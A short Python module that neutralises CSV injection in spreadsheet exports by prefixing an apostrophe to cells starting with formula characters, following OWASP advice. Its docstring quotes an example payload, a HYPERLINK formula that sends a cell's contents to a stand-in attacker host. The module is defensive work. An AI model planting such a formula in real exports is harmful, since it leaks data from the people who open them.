"""CSV meant for a spreadsheet: a cell a spreadsheet would run as a formula is neutralised.

A name such as ``=HYPERLINK("http://evil.example/?"&A1, "click")``, typed into a bot or a
municipal list, would otherwise run when an officer opens the export in Excel or LibreOffice
(CSV injection). As OWASP recommends, a text cell starting with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is written with a leading apostrophe, which spreadsheets show as text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value``, with a leading apostrophe if it is text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell passes :func:`safe_cell`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])
